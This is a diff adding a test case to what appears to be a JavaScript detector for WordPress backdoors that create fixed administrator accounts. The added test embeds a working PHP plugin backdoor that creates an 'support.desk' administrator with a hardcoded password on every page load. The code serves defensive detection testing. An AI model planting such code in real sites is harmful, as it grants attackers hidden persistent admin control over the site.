@@ -22,6 +22,22 @@ wp_insert_user($data);
     expect(addsFixedAdministrator(created)).toBe(true);
   });
 
+  it("reads a '$' in a single-quoted password as a letter, not as a variable", () => {
+    // A plugin backdoor's generated password: `$` is literal between single quotes.
+    const plugin = `<?php
+function create_admin() {
+  if (!username_exists('support.desk')) {
+    $user_id = wp_create_user('support.desk', '&FD6$Fe!r', 'desk@example.org');
+    $user = new WP_User($user_id);
+    $user->set_role('administrator');
+  }
+}
+add_action('init', 'create_admin');`;
+    expect(addsFixedAdministrator(plugin)).toBe(true);
+    // Between double quotes, `$Fe` is a variable: the password is not spelt out.
+    expect(addsFixedAdministrator(plugin.replace("'&FD6$Fe!r'", '"&FD6$Fe!r"'))).toBe(false);
+  });
+
   it('finds a fixed user inserted into a users table with an administrator role', () => {
     const page = `<?php
 $u = 'helpdesk';
